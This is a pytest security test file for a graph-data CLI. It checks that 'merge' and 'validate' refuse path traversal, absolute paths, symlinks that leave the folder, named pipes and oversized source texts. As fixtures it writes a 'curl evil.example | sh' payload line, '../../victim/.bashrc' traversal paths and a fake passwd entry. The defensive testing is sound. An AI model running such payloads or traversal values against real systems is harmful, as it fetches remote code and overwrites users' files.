"""Hostile drafts and seed source files (issue 20, cases 1, 2 and 3).

A draft folder is input someone else may have made: ``merge`` must check all
of it before it writes anything, and write nothing outside the seed. A seed's
source text must be a regular file inside the seed (or, for a reference
dataset, inside the package's data folder), read no further than its limit.

Every bad input goes through the command line as a user types it
(``graphmodel merge DRAFT --seed SEED``, ``graphmodel validate SEED``) and must
give exit code 2, one message naming the file, line and field, no traceback,
and change nothing anywhere under the test's folder.
"""

from __future__ import annotations

import json
import os
import re
import resource
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
ARTICLE = ROOT / "tests" / "data" / "extraction" / "review" / "makassar_pengungsi.txt"
MINI_TEXT = "sources/002_82afef0093a6f2c7.txt"  # the mini seed's only news text (tests/data/mini_seed/sources.yaml)
MAX_SOURCE_BYTES = 5 * 1024 * 1024  # graphmodel.seed.MAX_SOURCE_BYTES, written out: the test states the limit


def graphmodel(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    """The CLI as a user runs it, from this checkout (its cwd decides which ``graphmodel`` is imported)."""
    return subprocess.run(
        [sys.executable, "-m", "graphmodel.cli", *args],
        stdin=subprocess.DEVNULL, capture_output=True, text=True, cwd=ROOT, timeout=timeout,
        env={**os.environ, "COLUMNS": "200"},
    )


def snapshot(folder: Path) -> dict[str, tuple[str, bytes]]:
    """Every entry under ``folder`` without following links: its kind and content (a link's target)."""
    out: dict[str, tuple[str, bytes]] = {}
    for here, dirs, files in os.walk(folder):
        for name in dirs + files:
            path = Path(here) / name
            rel = path.relative_to(folder).as_posix()
            if path.is_symlink():
                out[rel] = ("link", os.readlink(path).encode())
            elif path.is_dir():
                out[rel] = ("folder", b"")
            elif path.is_file():
                out[rel] = ("file", path.read_bytes())
            else:
                out[rel] = ("special", b"")
    return out


def one_problem(result: subprocess.CompletedProcess, prefix: str) -> str:
    """Exit 2, no traceback, exactly one problem line, starting with ``prefix``; returns that line."""
    assert result.returncode == 2, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert re.fullmatch(r"1 problem\(s\)( in .+)?; nothing was written\.", lines[-1]), result.stderr
    assert len(lines) == 2 and lines[0].startswith(prefix), result.stderr
    return lines[0]


def line_of(path: Path, key: str) -> int:
    """1-based line of the first ``key:`` in a YAML file (where the problem must point)."""
    text = path.read_text(encoding="utf-8").splitlines()
    return next(i for i, line in enumerate(text, 1) if line.lstrip(" -").startswith(f"{key}:"))


# --------------------------------------------------------------------------- drafts


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    """The Makassar article extracted against the mini seed, every record accepted (merges cleanly: see below)."""
    base = tmp_path_factory.mktemp("template")
    seed = base / "seed"
    shutil.copytree(ROOT / "tests" / "data" / "mini_seed", seed)
    result = graphmodel("extract", str(ARTICLE), "-o", str(base / "draft"), "--seed", str(seed), timeout=300)
    assert result.returncode == 0, result.stderr
    for path in (base / "draft").rglob("*.yaml"):
        path.write_text(path.read_text(encoding="utf-8").replace("status: proposed", "status: accepted"),
                        encoding="utf-8")
    return base / "draft"


def place_draft(template: Path, where: Path) -> Path:
    shutil.copytree(template, where, symlinks=True)
    return where


def article_path(draft: Path) -> str:
    """The new article's ``path`` as extract wrote it: sources/000_<first 16 hex of its sha256>.txt."""
    (name,) = [p.name for p in (draft / "sources").iterdir()]
    assert re.fullmatch(r"000_[0-9a-f]{16}\.txt", name)  # src-000: the mini seed has no numbered source
    return f"sources/{name}"


def set_path(draft: Path, value: str) -> int:
    """Give the draft's new source another ``path`` (as a hostile draft does); return the line of that field."""
    sources = draft / "sources.yaml"
    text = sources.read_text(encoding="utf-8")
    old = re.findall(r"(?m)^  path: sources/\S+$", text)
    assert len(old) == 1, old  # the one new source
    sources.write_text(text.replace(old[0], f"  path: {json.dumps(value)}"), encoding="utf-8")  # a YAML string
    return line_of(sources, "path")


def test_the_untouched_draft_merges(template: Path, mini_seed: Path, tmp_path: Path):
    """The control for every draft below: as extract wrote it (all accepted), it merges, article included."""
    draft = place_draft(template, tmp_path / "draft")
    result = graphmodel("merge", str(draft), "--seed", str(mini_seed))
    assert result.returncode == 0, result.stderr
    assert "sources added: src-000" in result.stdout
    name = article_path(draft)
    assert (mini_seed / name).read_bytes() == (draft / name).read_bytes()
    assert not (mini_seed / name).is_symlink()


# The draft lies at tmp/bundle/x/draft and the seed at tmp/seed, so merge's working copy is tmp/.seed.merge-*/seed:
# a path with '..' names a file of the bundle from the draft and a file beside the seed from the copy (the
# issue's .bashrc). Today's merge copies the first onto the second before it validates anything.
DOTDOT = {
    "overwrites a file outside": "../../victim/.bashrc",
    "creates folders outside": "../../made/on/the/way/.bashrc",
    "hides in sources/": "sources/../../../victim/.bashrc",
}


@pytest.mark.parametrize("value", DOTDOT.values(), ids=DOTDOT.keys())
def test_merge_refuses_a_path_that_leaves_the_draft(template, mini_seed, tmp_path, robustness, value):
    robustness.bad_input(kind="draft path")
    draft = place_draft(template, tmp_path / "bundle" / "x" / "draft")
    payload = Path(os.path.normpath(draft / value))
    victim = Path(os.path.normpath(tmp_path / ".seed.merge-any" / "seed" / value))
    payload.parent.mkdir(parents=True, exist_ok=True)
    payload.write_text("curl evil.example | sh\n", encoding="utf-8")
    if "victim" in value:
        victim.parent.mkdir(parents=True, exist_ok=True)
        victim.write_text("export PS1=safe\n", encoding="utf-8")
    line = set_path(draft, value)
    before = snapshot(tmp_path)
    result = graphmodel("merge", str(draft), "--seed", str(mini_seed))
    problem = one_problem(result, f"{draft}/sources.yaml:{line}: path: ")
    assert "leaves the draft folder" in problem
    assert snapshot(tmp_path) == before  # the seed, the file beside it, no new folder, no leftover copy
    assert not (tmp_path / "made").exists()


def test_merge_refuses_an_absolute_path(template, mini_seed, tmp_path, robustness):
    robustness.bad_input(kind="draft path")
    draft = place_draft(template, tmp_path / "draft")
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("export PS1=safe\n", encoding="utf-8")
    line = set_path(draft, str(victim))
    before = snapshot(tmp_path)
    result = graphmodel("merge", str(draft), "--seed", str(mini_seed))
    problem = one_problem(result, f"{draft}/sources.yaml:{line}: path: ")
    assert "is an absolute path" in problem
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("value", ["sources/renamed.txt", "agencies.yaml", "sources/sub/nested.txt"])
def test_merge_refuses_a_text_not_where_extract_puts_it(template, mini_seed, tmp_path, robustness, value):
    """``agencies.yaml`` would replace the seed's own agencies file with the draft's; the others add stray files."""
    robustness.bad_input(kind="draft path")
    draft = place_draft(template, tmp_path / "draft")
    target, text = draft / value, draft / article_path(draft)
    if not target.exists():
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(text, target)
    line = set_path(draft, value)
    before = snapshot(tmp_path)
    result = graphmodel("merge", str(draft), "--seed", str(mini_seed))
    one_problem(result, f"{draft}/sources.yaml:{line}: path: ")
    assert snapshot(tmp_path) == before


def test_merge_refuses_a_text_changed_since_it_was_extracted(template, mini_seed, tmp_path, robustness):
    """A sentence slipped into the article after extraction (records could quote it): its sha256 no longer fits."""
    robustness.bad_input(kind="draft path")
    draft = place_draft(template, tmp_path / "draft")
    text = draft / article_path(draft)
    text.write_bytes(text.read_bytes() + b"Kepala IOM menyetujui pemindahan data.\n")
    line = line_of(draft / "sources.yaml", "path")
    before = snapshot(tmp_path)
    result = graphmodel("merge", str(draft), "--seed", str(mini_seed))
    problem = one_problem(result, f"{draft}/sources.yaml:{line}: path: ")
    assert "changed since it was extracted" in problem
    assert snapshot(tmp_path) == before


def test_merge_refuses_a_text_whose_hash_was_not_recorded(template, mini_seed, tmp_path, robustness):
    """The manifest is what ties the text to what extract read: without its record the text cannot be checked."""
    robustness.bad_input(kind="draft path")
    draft = place_draft(template, tmp_path / "draft")
    manifest = draft / "draft.yaml"
    text = manifest.read_text(encoding="utf-8")
    manifest.write_text(re.sub(r"(?ms)^articles:.*", "articles: []\n", text), encoding="utf-8")
    line = line_of(draft / "sources.yaml", "path")
    before = snapshot(tmp_path)
    result = graphmodel("merge", str(draft), "--seed", str(mini_seed))
    problem = one_problem(result, f"{draft}/sources.yaml:{line}: path: ")
    assert "records no sha256 for source 'src-000'" in problem
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("which", ["agencies.yaml", "article"])
def test_merge_does_not_wait_on_a_named_pipe_in_the_draft(template, mini_seed, tmp_path, robustness, which):
    """Reading a named pipe waits for a writer that never comes: today's merge hangs (the timeout ends it)."""
    robustness.bad_input(kind="draft path")
    draft = place_draft(template, tmp_path / "draft")
    rel = article_path(draft) if which == "article" else which
    (draft / rel).unlink()
    os.mkfifo(draft / rel)
    before = snapshot(tmp_path)
    result = graphmodel("merge", str(draft), "--seed", str(mini_seed), timeout=60)
    problem = one_problem(result, f"{draft}/{rel}:0: file: ")
    assert "is a named pipe" in problem
    assert snapshot(tmp_path) == before


# --------------------------------------------------------------------------- links in a draft


@pytest.fixture
def private(tmp_path: Path, template: Path) -> Path:
    """A private file (0600) outside the draft holding the article's own text, so every quote in it verifies."""
    secret = tmp_path / "private" / "notes.txt"
    secret.parent.mkdir()
    shutil.copyfile(template / article_path(template), secret)
    secret.chmod(0o600)
    return secret


def test_merge_refuses_an_article_text_that_is_a_link(template, mini_seed, tmp_path, robustness, private):
    """Today the private file is copied into seed/sources/ as 0644, ready to be committed."""
    robustness.bad_input(kind="symlink")
    draft = place_draft(template, tmp_path / "draft")
    rel = article_path(draft)
    (draft / rel).unlink()
    (draft / rel).symlink_to(private)
    before = snapshot(tmp_path)
    result = graphmodel("merge", str(draft), "--seed", str(mini_seed))
    problem = one_problem(result, f"{draft}/{rel}:0: file: ")
    assert "is a symbolic link" in problem
    assert snapshot(tmp_path) == before
    assert not any(private.read_bytes() == p.read_bytes() for p in mini_seed.rglob("*.txt"))


def test_merge_refuses_a_sources_folder_that_is_a_link(template, mini_seed, tmp_path, robustness, private):
    robustness.bad_input(kind="symlink")
    draft = place_draft(template, tmp_path / "draft")
    rel = article_path(draft)
    shutil.copyfile(private, private.parent / Path(rel).name)
    shutil.rmtree(draft / "sources")
    (draft / "sources").symlink_to(private.parent, target_is_directory=True)
    before = snapshot(tmp_path)
    result = graphmodel("merge", str(draft), "--seed", str(mini_seed))
    problem = one_problem(result, f"{draft}/sources:0: file: ")
    assert "is a symbolic link" in problem
    assert snapshot(tmp_path) == before


def link_out_of_draft(draft: Path, name: str, tmp_path: Path) -> None:
    """Move the draft's file ``name`` outside the draft and leave a symbolic link to it in its place."""
    elsewhere = tmp_path / "elsewhere.yaml"
    shutil.move(draft / name, elsewhere)
    (draft / name).symlink_to(elsewhere)


def test_merge_refuses_a_record_file_that_is_a_link(template, mini_seed, tmp_path, robustness):
    """Records read through a link come from a file the reviewer never saw in the draft."""
    robustness.bad_input(kind="symlink")
    draft = place_draft(template, tmp_path / "draft")
    link_out_of_draft(draft, "agencies.yaml", tmp_path)
    before = snapshot(tmp_path)
    result = graphmodel("merge", str(draft), "--seed", str(mini_seed))
    problem = one_problem(result, f"{draft}/agencies.yaml:0: file: ")
    assert "is a symbolic link" in problem
    assert snapshot(tmp_path) == before


def test_merge_refuses_a_manifest_that_is_a_link(template, mini_seed, tmp_path, robustness):
    """Today merge stamps "merged" through the link: into a file outside the draft."""
    robustness.bad_input(kind="symlink")
    draft = place_draft(template, tmp_path / "draft")
    link_out_of_draft(draft, "draft.yaml", tmp_path)
    before = snapshot(tmp_path)
    result = graphmodel("merge", str(draft), "--seed", str(mini_seed))
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith(f"error: {draft}: draft.yaml is a symbolic link"), result.stderr
    assert lines[0].endswith("nothing was written")
    assert snapshot(tmp_path) == before


# --------------------------------------------------------------------------- seed source texts


def test_a_seed_text_linked_outside_the_seed_does_not_verify(mini_seed, tmp_path, robustness):
    """The issue's case: a quote from a password file verifies through a link. sources.yaml gets a 4th record."""
    robustness.bad_input(kind="symlink")
    passwd = tmp_path / "etc" / "passwd"
    passwd.parent.mkdir()
    passwd.write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    (mini_seed / "sources" / "passwd.txt").symlink_to(passwd)
    sources = mini_seed / "sources.yaml"
    first = len(sources.read_text(encoding="utf-8").splitlines()) + 1  # the new record's line
    with sources.open("a", encoding="utf-8") as fh:
        fh.write("- id: src-passwd\n  name: accounts\n  kind: news\n  outlet: unknown\n  published: 2024-09-11\n"
                 "  date_basis: stated\n  path: sources/passwd.txt\n")
    agencies = mini_seed / "agencies.yaml"
    agencies.write_text(agencies.read_text(encoding="utf-8").replace(
        "  evidence:\n", "  evidence:\n    - {source: src-passwd, quote: \"root:x:0:0:root:/root:/bin/bash\"}\n", 1),
        encoding="utf-8")
    before = snapshot(tmp_path)
    result = graphmodel("validate", str(mini_seed))
    problem = one_problem(result, f"sources.yaml:{first}: path: ")
    assert "sources/passwd.txt leads outside the seed folder" in problem
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("what", ["the text", "the sources folder"])
def test_a_seed_text_reached_through_a_link_outside_is_refused(mini_seed, tmp_path, robustness, what):
    """The text outside is the seed's own text, so today the seed validates: the link is the only fault.

    The news source is the first record of the mini seed's sources.yaml (line 1).
    """
    robustness.bad_input(kind="symlink")
    outside = tmp_path / "outside"
    shutil.copytree(mini_seed / "sources", outside)
    if what == "the text":
        (mini_seed / MINI_TEXT).unlink()
        (mini_seed / MINI_TEXT).symlink_to(outside / Path(MINI_TEXT).name)
    else:
        shutil.rmtree(mini_seed / "sources")
        (mini_seed / "sources").symlink_to(outside, target_is_directory=True)
    result = graphmodel("validate", str(mini_seed))
    problem = one_problem(result, "sources.yaml:1: path: ")
    assert "leads outside the seed folder" in problem


def test_a_link_that_stays_inside_the_seed_is_read(mini_seed):
    """The choice made for case 3: a link whose target is inside the seed is read like the file itself."""
    kept = mini_seed / "sources" / "kept.txt"
    shutil.move(mini_seed / MINI_TEXT, kept)
    (mini_seed / MINI_TEXT).symlink_to(kept.name)
    result = graphmodel("validate", str(mini_seed))
    assert result.returncode == 0, result.stderr


@pytest.mark.parametrize("what", ["named pipe", "folder"])
def test_a_seed_text_that_is_not_a_regular_file_is_refused(mini_seed, tmp_path, robustness, what):
    """A named pipe would block the reader for ever (today: the timeout ends it); a folder is no text either."""
    robustness.bad_input(kind="source size")
    (mini_seed / MINI_TEXT).unlink()
    if what == "named pipe":
        os.mkfifo(mini_seed / MINI_TEXT)
    else:
        (mini_seed / MINI_TEXT).mkdir()
    result = graphmodel("validate", str(mini_seed), timeout=60)
    problem = one_problem(result, "sources.yaml:1: path: ")
    assert f"{MINI_TEXT} is not a regular file" in problem


def test_a_seed_text_over_the_limit_is_refused_without_reading_it(mini_seed, robustness):
    """A 4 GiB sparse text, validated with 1.5 GiB of address space: reading it whole cannot fit.

    The size comes from ``stat`` (4 * 1024**3 = 4,294,967,296 bytes) and is
    compared with the limit (5 MiB = 5,242,880 bytes) before any read; today
    the whole file is read first and the process runs out of memory.
    """
    robustness.bad_input(kind="source size")
    with (mini_seed / MINI_TEXT).open("r+b") as fh:
        fh.truncate(4 * 1024**3)

    def limit_memory() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (3 * 512 * 1024**2, 3 * 512 * 1024**2))

    result = subprocess.run(
        [sys.executable, "-m", "graphmodel.cli", "validate", str(mini_seed)], stdin=subprocess.DEVNULL,
        capture_output=True, text=True, cwd=ROOT, timeout=120, env={**os.environ, "COLUMNS": "200"},
        preexec_fn=limit_memory,
    )
    problem = one_problem(result, "sources.yaml:1: path: ")
    assert problem.endswith(f"{MINI_TEXT} is 4,294,967,296 bytes; source documents are limited to "
                            f"{MAX_SOURCE_BYTES:,}")


# --------------------------------------------------------------------------- seed record files


@pytest.mark.parametrize("which", ["agencies.yaml", "relationships/kupang.yaml"])
def test_a_seed_file_linked_outside_the_seed_is_refused_unread(mini_seed, tmp_path, robustness, which):
    """A record file that is a link to a private file outside: its lines must not be parsed and quoted back
    in problem messages (a YAML syntax error would print them). One problem, on the file itself (line 0)."""
    robustness.bad_input(kind="symlink")
    secret = tmp_path / "private" / "notes.yaml"
    secret.parent.mkdir()
    secret.write_text("api_token: {{ s3cr3t-t0ken\n", encoding="utf-8")
    (mini_seed / which).unlink()
    (mini_seed / which).symlink_to(secret)
    result = graphmodel("validate", str(mini_seed))
    problem = one_problem(result, f"{which}:0: file: ")
    assert "leads outside the seed folder" in problem and "s3cr3t" not in result.stderr + result.stdout


@pytest.mark.parametrize("which", ["facilities.yaml", "relationships/kupang.yaml"])
def test_a_seed_file_that_is_a_named_pipe_is_refused_without_waiting(mini_seed, robustness, which):
    """A named pipe where a record file goes: before, the top-level one was skipped in silence (its records
    went missing) and one inside a folder was skipped too; now one problem, and nothing waits for a writer.
    The facility is referred to by the relationships, so the check of references waits for the file."""
    robustness.bad_input(kind="source size")
    (mini_seed / which).unlink()
    os.mkfifo(mini_seed / which)
    result = graphmodel("validate", str(mini_seed), timeout=60)
    problem = one_problem(result, f"{which}:0: file: ")
    assert "not a regular file" in problem
